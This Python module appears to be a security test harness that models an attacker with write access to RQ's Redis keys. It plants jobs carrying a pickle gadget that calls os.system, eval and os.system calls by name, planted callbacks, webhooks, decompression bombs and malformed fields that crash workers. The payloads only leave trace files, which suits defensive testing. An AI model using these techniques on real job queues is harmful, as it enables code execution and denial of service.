"""Somebody who can write to RQ's keys, and to nothing else: the ways in, as raw commands, and traces of what ran."""

import json
import os
import pickle
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from enum import Enum
from functools import cache
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from threading import Thread
from types import TracebackType
from typing import Any, Final, Self

import redis

BOMB_BYTES: Final = 100_000_000
LARGE_BYTES: Final = 10_000_000
"""Of a result that only an attacker's job has."""
LONG_AGO: Final = 1
"""A score by which RQ takes a registry's member for expired, or due."""

Call = list[object]


DRAIN: Final = "workers.jobs.drain"


def drain(slot: int) -> Call:
    """A call that our own worker allows: what comes with it must be shut by itself."""
    return [DRAIN, None, [], {"destination": "default", "slot": slot}]


HARMLESS: Final = drain(0)
"""Ends well at once while somebody holds the lease."""
FAILING: Final[Call] = ["nobody.nothing", None, [], {}]
LEAVE: Final = "planted.leave"
"""A function that takes a job and leaves the trace."""
INFLATABLE: Final = ("exc_info", "meta", "result")
USUAL: Final = {
    "created_at": "2026-01-01T00:00:00.000000Z",
    "status": "queued",
    "timeout": "60",
    "result_ttl": "60",
    "failure_ttl": "60",
}


class Gadget:
    """Runs a command when it is unpickled."""

    def __init__(self, command: str) -> None:
        self.command = command

    def __reduce__(self) -> tuple[object, ...]:
        return os.system, (self.command,)


class Attacker:
    """Plants jobs and members of registries, under RQ's names.

    Args:
        client: of the server where RQ lives.
        folder: for the traces, and for a module `planted` that its workers can import.
        queue: the name of the queue that is attacked.
    """

    def __init__(self, client: redis.Redis, folder: Path, queue: str) -> None:
        self.redis = client
        self.queue = queue
        self._traces = folder / "traces"
        self._traces.mkdir(exist_ok=True)
        leave = f"def leave(job, *_): (Path({str(self._traces)!r}) / job.id).touch()"
        (folder / "planted.py").write_text(f"from pathlib import Path\n{leave}\n")
        self._listener = ThreadingHTTPServer(("127.0.0.1", 0), _leaving_traces(self._traces))
        Thread(target=self._listener.serve_forever, daemon=True).start()

    def __enter__(self) -> Self:
        return self

    def __exit__(self, kind: type[BaseException] | None, error: BaseException | None, at: TracebackType | None) -> None:
        self._listener.shutdown()
        self._listener.server_close()

    def ran(self, job_id: str) -> bool:
        """Whether the planted code ran, the listener was called, or the result is in Redis."""
        results: list[Any] = self.redis.xrange(f"rq:results:{job_id}")  # type: ignore[assignment] # redis-py types any client's
        sizes = [len(fields.get(b"return_value", b"")) for _, fields in results]
        return (self._traces / job_id).exists() or any(size >= LARGE_BYTES for size in sizes)

    def command(self, job_id: str) -> str:
        """A shell command that leaves the trace."""
        return f"touch {self._traces / job_id}"

    def expression(self, job_id: str) -> str:
        """Python that leaves the trace."""
        return f"__import__('os').system({self.command(job_id)!r})"

    def gadget(self, job_id: str) -> bytes:
        """A pickle that leaves the trace."""
        return pickle.dumps(Gadget(self.command(job_id)))

    def webhook(self, job_id: str, status: str) -> str:
        """A request, with a header of the attacker's choice, that leaves the trace."""
        url = f"http://127.0.0.1:{self._listener.server_port}/{job_id}"
        return json.dumps([{"url": url, "job_status": status, "method": "POST", "headers": {"X-Chosen": "yes"}}])

    def plant(self, job_id: str, data: bytes | Call, **fields: str | bytes) -> None:
        """Write a job's hash; a call is written as JSON."""
        packed = data if isinstance(data, bytes) else zlib.compress(json.dumps(data).encode())
        mapping = USUAL | {"origin": self.queue, "data": packed} | fields
        self.redis.hset(f"rq:job:{job_id}", mapping=mapping)  # type: ignore[arg-type] # redis-py types any client's

    def enqueue(self, job_id: str, data: bytes | Call, **fields: str | bytes) -> None:
        """Plant a job and put it on the queue."""
        self.plant(job_id, data, **fields)
        self.push(job_id)

    def abandon(self, job_id: str, **fields: str | bytes) -> None:
        """Plant a job whose worker seems to have died: the next one's maintenance deals with it."""
        self.plant(job_id, HARMLESS, status="started", **fields)
        self.register("wip", f"{job_id}:execution")

    def push(self, job_id: str | bytes, suffix: str = "") -> None:
        """Put an id on the queue, whatever it is; with `:intermediate`, on the list of jobs under way."""
        self.redis.rpush(f"rq:queue:{self.queue}{suffix}", job_id)

    def register(self, registry: str, member: str | bytes) -> None:
        """Put a member that is due into the queue's registry: wip, ready, scheduled."""
        self.redis.zadd(f"rq:{registry}:{self.queue}", {member: LONG_AGO})  # type: ignore[type-var] # redis-py types any client's


def _leaving_traces(folder: Path) -> type[BaseHTTPRequestHandler]:
    class Handler(BaseHTTPRequestHandler):
        def do_POST(self) -> None:
            (folder / self.path.strip("/")).touch()
            self.send_response(204)
            self.end_headers()

        def log_message(self, *_: object) -> None:
            """Not on standard error."""

    return Handler


class Effect(Enum):
    """What an attack does to a stock worker."""

    RUNS = "runs the attacker's code, or calls out"
    KILLS = "ends the worker"
    SWELLS = "makes the worker's memory swell"


@dataclass(frozen=True)
class Attack:
    """One way in.

    Attributes:
        name: also the id of its job.
        effect: what it does to a stock worker.
        plant: plants it.
        stock: which stock worker: a `pickle` or `json` one, or a `pool`, or a `pool -S json`.
        early: whether a worker meets it when it starts, in its maintenance.
    """

    name: str
    effect: Effect
    plant: Callable[[Attacker, str], object]
    stock: str = "json"
    early: bool = False


@cache
def bomb() -> bytes:
    """A hundred megabytes in less than one."""
    return zlib.compress(b" " * BOMB_BYTES, 1)


def scheduled(at: Attacker, job: str) -> None:
    at.plant(job, HARMLESS, status="scheduled", meta=at.gadget(job))
    at.register("scheduled", job)


def bomb_that_depends(at: Attacker, job: str) -> None:
    at.abandon(job)
    at.plant(f"{job}-dependent", bomb(), status="deferred")
    at.redis.sadd(f"rq:job:{job}:dependents", f"{job}-dependent")


def forgotten_at_once(at: Attacker, job: str) -> None:
    at.redis.zadd(f"rq:executions:{job}", {"nobody": 9_999_999_999})
    at.enqueue(job, FAILING, failure_ttl="0")


def no_hash(at: Attacker, job: str) -> None:
    at.redis.rpush(f"rq:job:{job}", "anything")
    at.push(job)


def no_registry(at: Attacker, job: str) -> None:
    at.redis.rpush(f"rq:executions:{job}", "anything")
    at.enqueue(job, HARMLESS)


def undecodable_worker(at: Attacker, job: str) -> None:
    at.redis.sadd(f"rq:workers:{at.queue}", undecodable(job))


def malformed_and_ready(at: Attacker, job: str) -> None:
    at.plant(job, HARMLESS, status="nope")
    at.register("ready", job)


def undecodable(job: str) -> bytes:
    """An id that is no UTF-8."""
    return job.encode() + b"\xff"


_RUNS, _KILLS, _SWELLS = Effect.RUNS, Effect.KILLS, Effect.SWELLS
ATTACKS: Final = (
    # code, by pickle
    Attack("pickle-in-data", _RUNS, lambda at, job: at.enqueue(job, zlib.compress(at.gadget(job))), "pickle"),
    Attack("pickle-in-meta", _RUNS, lambda at, job: at.enqueue(job, HARMLESS, meta=at.gadget(job)), "pickle"),
    Attack("pickle-in-result", _RUNS, lambda at, job: at.enqueue(job, HARMLESS, result=at.gadget(job)), "pickle"),
    Attack("pickle-abandoned", _RUNS, lambda at, job: at.abandon(job, meta=at.gadget(job)), "pool -S json", early=True),
    Attack("pickle-scheduled", _RUNS, scheduled, "pool", early=True),
    # code, by name
    Attack("os-system", _RUNS, lambda at, job: at.enqueue(job, ["os.system", None, [at.command(job)], {}])),
    Attack("eval", _RUNS, lambda at, job: at.enqueue(job, ["eval", None, [at.expression(job)], {}])),
    Attack("method-of-text", _RUNS, lambda at, job: at.enqueue(job, ["__mul__", "A" * 20, [1_000_000], {}])),
    Attack("success-callback", _RUNS, lambda at, job: at.enqueue(job, HARMLESS, success_callback_name=LEAVE)),
    Attack("failure-callback", _RUNS, lambda at, job: at.enqueue(job, FAILING, failure_callback_name=LEAVE)),
    Attack("abandoned-callback", _RUNS, lambda at, job: at.abandon(job, failure_callback_name=LEAVE), early=True),
    # requests
    Attack("success-webhook", _RUNS, lambda at, job: at.enqueue(job, HARMLESS, webhooks=at.webhook(job, "finished"))),
    Attack("failure-webhook", _RUNS, lambda at, job: at.enqueue(job, FAILING, webhooks=at.webhook(job, "failed"))),
    Attack("abandoned-webhook", _RUNS, lambda at, job: at.abandon(job, webhooks=at.webhook(job, "failed")), early=True),
    # memory
    Attack("bomb-in-data", _SWELLS, lambda at, job: at.enqueue(job, bomb())),
    Attack("bombs-elsewhere", _SWELLS, lambda at, job: at.enqueue(job, HARMLESS, **dict.fromkeys(INFLATABLE, bomb()))),
    Attack("bomb-that-depends", _SWELLS, bomb_that_depends, early=True),
    # what a worker meets outside of its horse, and RQ does not expect
    Attack("no-status", _KILLS, lambda at, job: at.enqueue(job, HARMLESS, status="nope")),
    Attack("no-date", _KILLS, lambda at, job: at.enqueue(job, HARMLESS, created_at="yesterday")),
    Attack("no-number", _KILLS, lambda at, job: at.enqueue(job, HARMLESS, result_ttl="soon")),
    Attack("no-text", _KILLS, lambda at, job: at.enqueue(job, HARMLESS, description=b"\xff")),
    Attack("deep-json", _KILLS, lambda at, job: at.enqueue(job, HARMLESS, retry_intervals="[" * 100_000)),
    Attack("no-intervals", _KILLS, lambda at, job: at.enqueue(job, FAILING, retries_left="1", retry_intervals="{}")),
    Attack("no-timeout", _KILLS, lambda at, job: at.enqueue(job, drain(1), timeout="")),
    Attack("forgotten-at-once", _KILLS, forgotten_at_once),
    Attack("no-hash", _KILLS, no_hash),
    Attack("no-registry", _KILLS, no_registry),
    Attack("undecodable-worker", _KILLS, undecodable_worker, early=True),
    Attack("no-id", _KILLS, lambda at, job: at.push(f"{job} {{}}")),
    Attack("undecodable-id", _KILLS, lambda at, job: at.push(undecodable(job))),
    Attack("undecodable-under-way", _KILLS, lambda at, job: at.push(undecodable(job), ":intermediate"), early=True),
    Attack("three-parts", _KILLS, lambda at, job: at.register("wip", f"{job}:x:y"), early=True),
    Attack("undecodable-execution", _KILLS, lambda at, job: at.register("wip", undecodable(job) + b":x"), early=True),
    Attack("malformed-and-ready", _KILLS, malformed_and_ready, early=True),
    Attack("undecodable-and-ready", _KILLS, lambda at, job: at.register("ready", undecodable(job)), early=True),
)
